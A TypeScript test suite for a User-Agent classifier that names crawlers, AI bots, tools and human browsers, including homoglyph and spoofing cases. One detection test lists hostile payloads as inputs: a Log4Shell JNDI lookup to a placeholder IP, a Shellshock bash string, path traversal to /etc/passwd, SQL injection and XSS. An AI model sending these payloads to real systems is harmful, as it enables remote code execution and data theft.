import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadContent } from '../../api/content/load.ts';
import {
  classifyOnConnection,
  createClassifier,
  UA_PREFIX_CHARS,
  type Classifier,
} from '../../api/telemetry/classification/classify.ts';
import { productTokens } from '../../api/telemetry/classification/tokens.ts';
import type { BotFamily, GeneratedBotFamily } from '../../api/schemas/bot-families.ts';

let classify: Classifier;
let families: BotFamily[];
let generated: GeneratedBotFamily[];
let humanClients: Record<string, string[]>;
beforeAll(async () => {
  const content = await loadContent('content');
  families = content.botFamilies.families;
  generated = content.botFamiliesGenerated.families;
  humanClients = content.botFamilies.human_clients;
  classify = createClassifier(families, { humanClients, generated });
});

const fixture = (name: string) =>
  readFileSync(new URL(`fixtures/${name}`, import.meta.url), 'utf8')
    .split('\n')
    .filter((l) => l !== '' && !l.startsWith('#'));

// Real User-Agent strings as the operators publish them.
const UAS: [string, string, string][] = [
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
    'GPTBot',
    'Eater',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot',
    'ChatGPT-User',
    'Intelligence',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot',
    'OAI-SearchBot',
    'Crawler',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
    'ClaudeBot',
    'Eater',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)',
    'Claude-User',
    'Intelligence',
  ],
  ['Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'Googlebot', 'Crawler'],
  ['Googlebot-Image/1.0', 'Googlebot-Image', 'Crawler'],
  ['Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 'Bingbot', 'Crawler'],
  [
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)',
    'Applebot',
    'Crawler',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)',
    'PerplexityBot',
    'Crawler',
  ],
  [
    'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)',
    'Perplexity-User',
    'Intelligence',
  ],
  ['CCBot/2.0 (https://commoncrawl.org/faq/)', 'CCBot', 'Eater'],
  [
    'Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)',
    'Bytespider',
    'Eater',
  ],
  ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)', 'facebookexternalhit', 'Bot'],
  ['DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)', 'DuckDuckBot', 'Crawler'],
  ['Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', 'YandexBot', 'Crawler'],
  // Strings once misnamed.
  ['TelegramBot (like TwitterBot)', 'TelegramBot', 'Bot'],
  [
    'Mozilla/5.0 (compatible; Baiduspider-image/2.0; +http://www.baidu.com/search/spider.html)',
    'Baiduspider-image',
    'Crawler',
  ],
  ['Mozilla/5.0 (compatible) Ai2Bot-Dolma (+https://www.allenai.org/crawler)', 'Ai2Bot-Dolma', 'Eater'],
  ['Mozilla/5.0 (compatible) AI2Bot (+https://www.allenai.org/crawler)', 'AI2Bot', 'Eater'],
  ['Y!J-BRW/1.0 crawler (http://help.yahoo.co.jp/help/jp/search/indexing/indexing-15.html)', 'Y!J-BRW', 'Crawler'],
  ['Y!J-ASR/0.1 crawler (http://www.yahoo-help.jp/app/answers/detail/p/595/a_id/42716/)', 'Y!J-ASR', 'Crawler'],
  ['Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)', 'Yahoo! Slurp', 'Crawler'],
  ['Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', 'SemrushBot', 'Bot'],
  ['Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)', 'Pingdom', 'Bot'],
  ['Wget/1.21.4', 'Wget', 'Bot'],
  ['Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)', 'Barkrowler', 'Bot'],
  ['Mozilla/5.0 (compatible; SISTRIX Crawler; http://crawler.sistrix.net/)', 'SISTRIX Crawler', 'Bot'],
  [
    'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 (compatible; Google-InspectionTool/1.0;)',
    'Google-InspectionTool',
    'Crawler',
  ],
];

describe('classification', () => {
  it.each(UAS)('%s is %s (%s)', (ua, family, cls) => {
    expect(classify(ua)).toMatchObject({ bot: true, family, class: cls });
  });

  it('tells look-alikes apart by whole product tokens', () => {
    expect(classify('Claude-User/1.0').family).toBe('Claude-User');
    expect(classify('ClaudeBot/1.0').family).toBe('ClaudeBot');
    expect(classify('Mozilla/5.0 (compatible; NotGPTBotAtAll/1.0)').family).not.toBe('GPTBot');
  });

  it('still names an AI agent whose token is appended to a browser User-Agent', () => {
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
    for (const line of fixture('ai-agents.tsv')) {
      const [token, family] = line.split('\t') as [string, string];
      expect(classify(`${chrome} ${token}/1.0`).family, token).toBe(family);
    }
  });

  it('names every ai.robots.txt agent that sends a User-Agent, with the class its function implies', () => {
    const lines = fixture('ai-agents.tsv');
    expect(lines.length).toBe(166);
    const wrong = lines
      .map((l) => l.split('\t') as [string, string, string])
      .map(([token, family, cls]) => ({
        token,
        family,
        cls,
        got: classify(`Mozilla/5.0 (compatible; ${token}/1.0; +https://example.org/bot)`),
      }))
      .filter((r) => r.got.family !== r.family || r.got.class !== r.cls)
      .map((r) => `${r.token}: ${r.got.family} ${r.got.class}, expected ${r.family} ${r.cls}`);
    expect(wrong).toEqual([]);
  });

  it('takes a User-Agent claiming a robots.txt-only token (Google-Extended) for spoofed', () => {
    expect(classify('Mozilla/5.0 (compatible; Google-Extended/1.0)')).toMatchObject({
      bot: true,
      family: 'Google-Extended',
      class: 'Cosplay',
    });
  });

  it("names at least 90% of crawler-user-agents' example bots as their own pattern names them", () => {
    const rows = fixture('known-bots.tsv').map((l) => l.split('\t') as [string, string]);
    expect(rows.length).toBeGreaterThan(1500);
    let named = 0;
    for (const [expected, ua] of rows) {
      const c = classify(ua);
      const exp = expected.toLowerCase();
      const family = (c.family ?? '').toLowerCase();
      const tokens = (c.known?.tokens ?? []).map((t) => t.toLowerCase());
      if (family === exp || tokens.includes(exp) || family.startsWith(exp) || (exp.length > 3 && family.includes(exp)))
        named++;
    }
    expect(named / rows.length).toBeGreaterThanOrEqual(0.9);
  });

  it('takes none of our hand-assembled browsers and apps for bots (smart TVs, webviews, podcast apps, feature phones)', () => {
    const browsers = fixture('browsers.txt');
    expect(browsers.length).toBeGreaterThan(200);
    expect(browsers.filter((ua) => classify(ua).bot)).toEqual([]);
  });

  it('names unknown bots from their own product token, never from regex source', () => {
    expect(classify('Mozilla/5.0 (compatible; SeekportBot; +https://bot.seekport.com)').family).toBe('SeekportBot');
    // A search engine's indexer outside our table is still a Crawler (crawler-user-agents tags it so).
    expect(classify('Mozilla/5.0 (compatible; IstellaBot/1.23.15 +http://www.tiscali.it/)')).toMatchObject({
      family: 'IstellaBot',
      class: 'Crawler',
      known: { source: 'crawler-user-agents' },
    });
    expect(classify('Xenu Link Sleuth/1.3.8').family).toBe('Xenu Link Sleuth');
    // An example of a list's entry is the bot that entry is, not one named after another example.
    expect(classify('msnbot-media/1.1 (+http://search.msn.com/msnbot.htm)').family).toBe('Bingbot');
    expect(classify('psbot-page (+http://www.picsearch.com/bot.html)').family).toBe('Picsearch bot');
    for (const [ua, family] of [
      // "<Word> Spider", else its first bot-like token; never a sentence's words, a version or a
      // spelled-out "at".
      ['Acme Spider (+http://acme.example/)', 'Acme Spider'],
      ['ZorgBot (zorg.example/about. If our bot caused problems please write to us)', 'ZorgBot'],
      ['Quuxbot/QuuxBot v2.1 (Spider; http://quux.example/bot/)', 'Quuxbot'],
      ['Mozilla/5.0 (compatible; +zorg.b.o.t[at]gmail.com)', 'unnamed bot'],
      // Nor what a sentence leaves after a name: a colon, a dash, a "v." before its number.
      ['Zorp Hurdler v. 1.05 (+http://zorp.example/hurdler.html)', 'Zorp Hurdler'],
      ['Zorp MetaCrawler v.0.9.7c (http://zorp.example/)', 'MetaCrawler'],
      ['Mozilla/5.0 (X11; Linux i686) Safari/537.36; Zorp-Crawler: http://zorp.example', 'Zorp-Crawler'],
      ['Zorp.com - BOT/v.0.1', 'Zorp.com'],
      // A mailbox, a host or an id after a name is none of its words.
      ['ZorpCrawler www.zorp.example', 'ZorpCrawler'],
      ['zorp header collector ops@zorp.example', 'zorp header collector'],
      ['Zorp Document Collector d4408643ccbd7e83d0c5 (http://zorp.example/)', 'Zorp Document Collector'],
      // Named nowhere else, by the words isbot's pattern matched: the token it falls in and the words
      // after it, before it where that token is generic, a mailbox's sender, a whole word of a version.
      [
        'Mozilla/5.0 (Windows NT 6.1; WOW64; Neustar WPM) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36',
        'Neustar WPM',
      ],
      ['Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; ZorpDownload 2.0; .NET CLR 2.0.50727)', 'ZorpDownload'],
      ['Mozilla/5.0 (Zorpix Agent)', 'Zorpix Agent'],
      ['Mozilla/5.0 (Zorp Link Monitor v1.4)', 'Zorp Link Monitor'],
      ['Mozilla/5.0 (zorp3.1.4@mail.example)', 'zorp'],
      [
        'Mozilla/5.0 (Windows NT 6.1) AppleWebKit/538.1 (KHTML, like Gecko) ZorpJS/1.1.2+PhantomJS/2.1.1 Safari/538.1',
        'PhantomJS',
      ],
      // Never generic words alone, a piece of a word, or what no name is made of.
      ['HTTP Service', 'unnamed bot'],
      [
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.22 (KHTML, like Gecko) Safari/537.22 +zorpcrawler',
        'unnamed bot',
      ],
      [
        'Mozilla/5.0 (Windows; U; Windows NT 5.1; rv:1.9.0.7; Zorp JavaScript=yes) Gecko/20090219 Firefox/3.0.7',
        'unnamed bot',
      ],
    ])
      expect(classify(ua!).family, ua).toBe(family);
    const c = classify('Mozilla/5.0 (compatible; FooCrawlerZ/3.1; +https://foo.example/bot)');
    expect(c).toMatchObject({ bot: true, family: 'FooCrawlerZ', class: 'Bot', known: null });
    const tokens = new Set(
      productTokens('Mozilla/5.0 (compatible; FooCrawlerZ/3.1; +https://foo.example/bot)').original,
    );
    expect(tokens.has(c.family!)).toBe(true);
  });

  it("names tools and scanners by their own names, without a version or another tool's name", () => {
    for (const [ua, family] of [
      // Node.js's own fetch, not the node-fetch package.
      ['undici', 'undici'],
      ['node', 'node'],
      ['W3C-checklink/5.0.0', 'W3C Link Checker'],
      ['Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:map_codes)', 'Nikto'],
      ['Fuzz Faster U Fool v2.1.0-dev', 'ffuf'],
      // A version's pre-release tag comes off with it.
      ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'DirBuster'],
      ['Mozilla/5.0 (compatible; Google-PageSpeed Insights)', 'Google PageSpeed Insights'],
    ])
      expect(classify(ua!), ua).toMatchObject({ bot: true, family });
  });

  it("names HTTP clients, test drivers and build tools by their own default User-Agents, even where they read as a person's platform", () => {
    for (const [ua, family] of [
      ['ureq/2.9.1', 'ureq'],
      ['excon/0.104.0', 'excon'],
      ['Manticore 0.9.1', 'Manticore'],
      ['grpc-go/1.59.0', 'gRPC'],
      ['Twisted PageGetter', 'Twisted'],
      ['Symfony BrowserKit', 'Symfony BrowserKit'],
      ['Mozilla/5.0 Chrome/10.0.613.0 Safari/534.15 Zombie.js/6.1.4', 'Zombie.js'],
      ['Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6', 'Siege'],
      ['Gradle/8.4 (Linux;6.1.0;amd64) (Eclipse Adoptium;17.0.8;17.0.8+7)', 'Gradle'],
      ['cargo/1.73.0 (9c4383fb5 2023-08-26)', 'cargo'],
      ['kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3', 'kubectl'],
      ['Joomla! - Open Source Content Management', 'Joomla'],
    ])
      expect(classify(ua!), ua).toMatchObject({ bot: true, family });
  });

  it('takes a common word for the agent it names only as the agent writes it', () => {
    // "Spider" (ai.robots.txt) is an AI data provider; the word "spider" names no one.
    expect(classify('Mozilla/5.0 (compatible; Spider/1.0; +https://example.org/bot)')).toMatchObject({
      family: 'Spider',
      class: 'Eater',
    });
    for (const ua of ['spider/1.0', 'Mozilla/3.0 (compatible; Zorp the spider; http://zorp.example/)'])
      expect(classify(ua), ua).toMatchObject({ bot: true, class: 'Bot' });
    expect(classify('Mozilla/3.0 (compatible; Zorp the spider; http://zorp.example/)').family).toBe('Zorp');
    // A generic word set off by a dash says what the words before it are.
    expect(
      classify('Mozilla/5.0 (X11; Linux x86_64; rv:1.9) Gecko/2010 Firefox/3.0.5 (Zorp Quux - spider 3.0)'),
    ).toMatchObject({ bot: true, family: 'Zorp Quux' });
  });

  it("calls media players' own HTTP stacks, and media and mail apps of our table, people's: not bots nor unknown clients", () => {
    for (const ua of [
      'libmpv',
      'GStreamer souphttpsrc 1.22.0 libsoup/3.4.2',
      'WinampMPEG/5.9',
      'Strawberry/1.0.21',
      'Outlook-Android/2.0',
    ]) {
      const c = classify(ua);
      expect([ua, c.bot, c.unknown ?? false]).toEqual([ua, false, false]);
    }
  });

  it("takes a desktop app's Electron shell and a phone's in-app browser for a person, not the company's agent or fetcher", () => {
    for (const ua of [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.86.2 Chrome/118.0.5993.159 Electron/27.2.3 Safari/537.36',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Cursor/0.42.3 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36',
      'Mozilla/5.0 (Linux; Android 13; Pixel 6 Build/TQ2A.230505.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/113.0.5672.131 Mobile Safari/537.36 Feedly/2.4.3',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Bluesky/1.70',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Mastodon/2.4.1',
    ])
      expect(classify(ua), ua).toMatchObject({ bot: false, family: null });
    // The fetchers write a crawler's manner; a tool poses as a phone's whole browser; a bot's word is a bot's.
    for (const [ua, family] of [
      ['Feedly/1.0 (+http://www.feedly.com/fetcher.html; 42 subscribers; like FeedFetcher-Google)', 'Feedly'],
      ['http.rb/5.1.1 (Mastodon/4.2.8; +https://mastodon.social/)', 'Mastodon'],
      [
        'Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Bluesky/1.70 (+https://bsky.app)',
        'Bluesky',
      ],
      [
        'Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5 Build/MRA58N) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3694.0 Mobile Safari/537.36 Chrome-Lighthouse',
        'Chrome-Lighthouse',
      ],
      [
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) facebot/1.4.9 Chrome/61.0.3163.100 Electron/2.0.16 Safari/537.36',
        'Facebot',
      ],
    ])
      expect(classify(ua!), ua).toMatchObject({ bot: true, family });
  });

  it("takes a look-alike of a table family's name for a claim of that family, and shows other names without invisible characters", () => {
    // Cyrillic o's; a zero-width space: claims of Googlebot, which its verification then judges.
    for (const ua of [
      'Mozilla/5.0 (compatible; G\u043e\u043eglebot/2.1; +http://x.example/bot)',
      'Goo\u200bglebot/1.0 (+http://x.example)',
      // A version glued to the name, read as a bot named Googlebot.
      'Googlebot2.1',
      'Mozilla/5.0 (compatible; Googlebotv2.1; +http://www.google.com/bot.html)',
      // Every letter a look-alike, where nothing else in the string says bot.
      'G\u043e\u043egl\u0435b\u043et/2.1',
    ])
      expect(classify(ua), ua).toMatchObject({ bot: true, family: 'Googlebot', known: { family: 'Googlebot' } });
    // Full-width letters, beside an address that would otherwise name the bot after its host.
    for (const ua of [
      '\uff27\uff30\uff34\uff22\uff4f\uff54/1.0',
      '\uff27\uff30\uff34\uff22\uff4f\uff54/1.2 (+https://openai.com/gptbot)',
    ])
      expect(classify(ua), ua).toMatchObject({ bot: true, family: 'GPTBot', known: { family: 'GPTBot' } });
    // A person's phone named in another script is still a person's.
    expect(
      classify(
        'Mozilla/5.0 (Linux; Android 10; \u041f\u0440\u0438\u043c\u0435\u0440) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36',
      ).bot,
    ).toBe(false);
    // A right-to-left override is no part of a name; a name in another script stays as written.
    expect(classify('Evil\u202ebot/1.0 (+http://e.example)')).toMatchObject({
      bot: true,
      family: 'Evilbot',
      known: null,
    });
    expect(classify('Mozilla/5.0 (compatible; Zörp-bot/1.0; +https://zörp.example/bot)')).toMatchObject({
      family: 'Zörp-bot',
    });
  });

  it('takes a vulnerability scanner that a client list files among mobile apps for a bot (OpenVAS)', () => {
    expect(classify('Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)')).toMatchObject({ bot: true, family: 'OpenVAS' });
    expect(classify('OpenVAS-VT 22.4.1')).toMatchObject({ bot: true, family: 'OpenVAS' });
  });

  it('takes a program for a bot on the evidence of its name, its work or its contact, and names it', () => {
    const bot = (ua: string) => classify(ua);
    // Words of a program's work, alone or in a name's last capitals, never inside a word.
    expect(bot('Acme-Webhooks/2.0')).toMatchObject({ bot: true, family: 'Acme-Webhooks' });
    expect(bot('QuuxAPI/1.4')).toMatchObject({ bot: true, family: 'QuuxAPI' });
    expect(bot('Zorp Sitemap Generator 3')).toMatchObject({ bot: true });
    expect(bot('Mozilla/5.0 (QtEmbedded; U; Linux; C) AppleWebKit/533.3 (KHTML, like Gecko) ZXAPI/1.0').bot).toBe(
      false,
    );
    // A Perl or Ruby module, or a Windows executable, named first.
    expect(bot('HTTP::Tiny/0.076')).toMatchObject({ bot: true, family: 'HTTP::Tiny' });
    expect(bot('grabber.exe')).toMatchObject({ bot: true });
    // An app on a system's HTTP stack whose name says it checks or extracts; a downloader app stays a person's.
    expect(bot('LinkTester/3 CFNetwork/1240.0.4 Darwin/20.6.0')).toMatchObject({ bot: true, family: 'LinkTester' });
    expect(bot('Video%20Downloader/2.1 CFNetwork/1240.0.4 Darwin/20.6.0').bot).toBe(false);
    // A program on a language runtime is named by its first token, before the library it uses.
    expect(bot('deploytool/2.1 CPython/3.12.1 Linux/6.1.0')).toMatchObject({ bot: true, family: 'deploytool' });
    expect(bot('Shipit/4.2 curl/8.5.0 PHP/8.3.1')).toMatchObject({ bot: true, family: 'Shipit' });
    // A string that is no browser's is shown by the product it starts with, not by a later bot word ...
    expect(bot('Quarrybot/0.7 (a Storm-based crawler; https://quarry.example)').family).toBe('Quarrybot');
    // ... unless it claims a name of its own after "compatible;".
    expect(bot('Mozila/5.0 (compatible; Quarry Search; +https://quarry.example/)').family).toBe('Quarry Search');
    // Named after a contact's or a bare domain, or the name in the engine's comment; a public mailbox names nothing.
    expect(
      bot('Mozilla/5.0 (Windows NT 10.0; Win64; x64; ops@probe-corp.net) Gecko/20100101 Firefox/120.0').family,
    ).toBe('probe-corp.net');
    expect(
      bot('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; Google Page Renderer) Chrome/120.0 Safari/537.36'),
    ).toMatchObject({
      bot: true,
      family: 'Google Page Renderer',
    });
    expect(bot('Mozilla/5.0 (X11; Linux x86_64; someone@gmail.com) Gecko/20100101 Firefox/120.0').family).not.toBe(
      'gmail.com',
    );
    // A mailbox spelled out against harvesters is a contact too.
    expect(bot('Quarryfetch/2.0 (ops at quarry dash labs dot example)')).toMatchObject({ bot: true });
    expect(
      bot('Mozilla/5.0 (Windows NT 10.0; rv:120.0) Gecko/20100101 Firefox/120.0 (ops at quarry dot example)').bot,
    ).toBe(true);
    // A "(compatible; Name" comment after a browser's whole string, as Googlebot's phone crawler
    // writes its claim, is a crawler's, address or not; a browser string nested after an app's
    // (a signage player's), or an old MSIE one, is no such claim.
    expect(
      bot(
        'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; Quarry-Render)',
      ),
    ).toMatchObject({ bot: true, family: 'Quarry-Render' });
    expect(
      bot(
        'Signbox/2.1 (SB-40) Mozilla/5.0 (compatible; Linux armv7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.141 Safari/537.36',
      ).bot,
    ).toBe(false);
    expect(
      bot(
        'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/3.0 Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) Opera 7.03',
      ).bot,
    ).toBe(false);
    // A program built with Go reports its toolchain.
    expect(bot('shipyard-agent 4.2.0 (4-2-stable; go1.23.4; linux/amd64)')).toMatchObject({
      bot: true,
      family: 'shipyard-agent',
    });
    // A locale's "@calendar=" is no contact: a person's browser.
    expect(
      bot(
        'Mozilla/5.0 (X11; U; Linux x86_64; de-DE@calendar=gregorian) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
      ).bot,
    ).toBe(false);
  });

  it("takes a User-Agent that carries an attack's payload for an attack probe, whatever browser it also names", () => {
    const chrome =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
    for (const ua of [
      '${jndi:ldap://198.51.100.7:1389/Exploit}',
      '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7/a}',
      '() { :; }; /bin/bash -c "id"',
      '../../../../etc/passwd',
      '%252e%252e%252fboot.ini',
      `${chrome}' AND 4712=4712-- QxZt`,
      `${chrome}" OR "1"="1`,
      `${chrome}';SELECT pg_sleep(5);--`,
      `${chrome}<script>alert(1)</script>`,
      '{{7*7}}',
    ])
      expect(classify(ua), ua).toMatchObject({ bot: true, family: 'attack probe' });
    // What looks alike in people's and bots' own strings is no payload.
    expect(
      classify(
        'Opera/9.80 (Linux sh4 ; U; HBBTV/1.0 (; LOH/1.00; -----;;;) CE-HTML/1.0 Config(L:de,CC:AT); en) Presto/2.5.21 Version/10.30',
      ).bot,
    ).toBe(false);
    expect(classify('RankingBot2 -- https://ranking.example/bot').family).toBe('RankingBot2');
    expect(classify(`${chrome} (compatible; select-from-list app)`).family).not.toBe('attack probe');
  });

  it('reads only a bounded prefix and answers from the cache for the same prefix', () => {
    const ua = 'Mozilla/5.0 (compatible; GPTBot/1.2)';
    expect(classify(ua)).toBe(classify(ua));
    const long = `${ua} ${'x'.repeat(20_000)}`;
    expect(classify(long)).toBe(classify(`${long.slice(0, UA_PREFIX_CHARS)} tail that differs`));
    expect(classify(`${'a'.repeat(UA_PREFIX_CHARS)} GPTBot/1.2`).family).not.toBe('GPTBot');
  });

  it('bounds its cache in bytes', () => {
    const small = createClassifier(families, { cacheBytes: 64 * 1024 });
    const first = small(`Mozilla/5.0 (compatible; RotBot/0; ${'y'.repeat(400)})`);
    for (let i = 1; i < 2000; i++) small(`Mozilla/5.0 (compatible; RotBot/${i}; ${'y'.repeat(400)})`);
    // The first answer was evicted: asking again computes a new (equal, not identical) object.
    expect(small(`Mozilla/5.0 (compatible; RotBot/0; ${'y'.repeat(400)})`)).not.toBe(first);
  });

  it('has search engines among its families', () => {
    expect(families.filter((f) => f.kind === 'search').length).toBeGreaterThanOrEqual(20);
  });
});

describe('the answer kept per connection', () => {
  it("gives the classifier's answer, asking it again only when the User-Agent on that connection changes", () => {
    const asked: string[] = [];
    const onConnection = classifyOnConnection((ua) => (asked.push(ua), classify(ua)));
    const [a, b] = [{}, {}];
    const gpt = UAS[0]![0];
    const browser =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
    // The same text in a string of its own, as each request's header is.
    const again = (ua: string) => ` ${ua}`.slice(1);
    for (const [ua, connection] of [
      [gpt, a],
      [again(gpt), a],
      [browser, a],
      [again(browser), a],
      [gpt, b],
      [gpt, undefined],
      [gpt, undefined],
    ] as const)
      expect(onConnection(ua, connection)).toBe(classify(ua));
    expect(asked).toEqual([gpt, browser, gpt, gpt, gpt]);
    // Longer than what is classified: never kept.
    const long = `${gpt} ${'x'.repeat(UA_PREFIX_CHARS)}`;
    onConnection(long, a);
    onConnection(long, a);
    expect(asked.slice(5)).toEqual([long, long]);
  });
});
